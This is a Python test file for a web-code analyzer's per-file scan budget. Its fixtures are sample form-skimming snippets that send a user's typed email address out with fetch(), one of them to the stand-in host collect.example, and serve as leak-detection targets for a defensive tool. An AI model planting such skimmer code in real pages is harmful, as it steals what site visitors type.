"""The per-file budget (analyzer/budget.py): work steps cut deterministically, a graph-node bound, a
wall-clock guard whose cut reports none of the file's findings, and pages sharing one budget with their
inline scripts and handlers."""
from __future__ import annotations

from pathlib import Path

import analyzer.budget as budget
from analyzer.engine import scan
from analyzer.extract.util import _MAX_TMPL

LEAK = ("document.getElementById('email').addEventListener('blur', function (e) "
        "{ fetch('/c?e=' + e.target.value); });\n")


def _site(root: Path, files: dict[str, str]) -> Path:
    for rel, text in files.items():
        (root / rel).write_text(text)
    return root


def _notes(r):
    return {(n.path, n.reason) for n in r.notifications}


def _keys(r):
    return sorted((f.sink.path, f.sink.line, f.sink.col, f.sink_api) for f in r.findings)


def test_node_bound_cuts_a_file_with_a_note(tmp_path, monkeypatch):
    big = "".join(f"var v{i} = {{a: {i}, b: [{i}, {i}]}};\n" for i in range(3000)) + LEAK
    _site(tmp_path, {"big.js": big, "leak.js": LEAK})
    monkeypatch.setattr(budget, "MAX_NODES_PER_FILE", 500)
    r1, r2 = scan([tmp_path], budget_seconds=0), scan([tmp_path], budget_seconds=0)
    assert ("big.js", "fact-limit") in _notes(r1)
    assert ("leak.js", 1, LEAK.index("fetch") + 1, "fetch") in _keys(r1)
    assert _keys(r1) == _keys(r2) and not r1.complete


def test_step_budget_cut_is_deterministic(tmp_path):
    big = "".join(f"function f{i}(a) {{ return a + {i}; }}\n" for i in range(6000)) + LEAK
    _site(tmp_path, {"big.js": big, "leak.js": LEAK})
    runs = [scan([tmp_path], budget_seconds=1.5) for _ in range(3)]
    assert all(("big.js", "budget") in _notes(r) for r in runs)
    assert _keys(runs[0]) == _keys(runs[1]) == _keys(runs[2])
    assert runs[0].stats["nodes"] == runs[1].stats["nodes"] == runs[2].stats["nodes"]
    assert ("big.js", 6001) not in {(k[0], k[1]) for k in _keys(runs[0])}  # the cut came before the end


def test_wall_clock_guard_reports_none_of_the_file(tmp_path, monkeypatch):
    big = "".join(f"function f{i}(a) {{ return a + {i}; }}\n" for i in range(6000)) + LEAK
    _site(tmp_path, {"big.js": big, "leak.js": LEAK})
    monkeypatch.setattr(budget, "STEPS_PER_SECOND", 10**9)  # steps never run out: the clock does
    monkeypatch.setattr(budget, "GRACE_SECONDS", 0.0)
    r = scan([tmp_path], budget_seconds=0.05)
    assert ("big.js", "budget-time") in _notes(r)
    assert [k[0] for k in _keys(r)] == ["leak.js"]


def test_a_page_and_its_handlers_share_one_budget(tmp_path):
    handlers = "".join(f'<b onclick="f({i}); g({i}); h({i})">x</b>' for i in range(4000))
    page = ('<form><input type="email" id="email"><button type="submit">Order</button></form>'
            + handlers + '<input id="late" type="email" onblur="fetch(\'/x?\' + this.value)">')
    _site(tmp_path, {"page.html": page, "leak.js": LEAK})
    r = scan([tmp_path], budget_seconds=1)
    budget_notes = [n for n in r.notifications if n.reason == "budget"]
    assert [n.path for n in budget_notes] == ["page.html"]  # one note for the page, not one per handler
    assert "leak.js" in {k[0] for k in _keys(r)}
    assert "page.html" not in {k[0] for k in _keys(r)}  # the late handler was past the budget
    full = scan([tmp_path], budget_seconds=0)
    assert "page.html" in {k[0] for k in _keys(full)}


def test_a_page_too_big_for_its_budget_is_not_parsed(tmp_path):
    _site(tmp_path, {"divs.html": "<div>" * 50_000 + "</div>" * 50_000, "leak.js": LEAK})
    r = scan([tmp_path], budget_seconds=1)
    assert ("divs.html", "budget") in _notes(r)
    assert [k[0] for k in _keys(r)] == ["leak.js"]


def test_long_concatenation_keeps_a_bounded_template(tmp_path):
    chain = "fetch('https://collect.example/' + " + " + ".join(["e.target.value"] * 200) + ");"
    code = "document.getElementById('email').addEventListener('blur', function (e) { " + chain + " });\n"
    _site(tmp_path, {"c.js": code})
    r = scan([tmp_path], budget_seconds=0)
    assert [(f.sink.path, f.destination) for f in r.findings] == [("c.js", "https://collect.example/")] \
        or [f.sink.path for f in r.findings] == ["c.js"]
    assert _MAX_TMPL <= 100
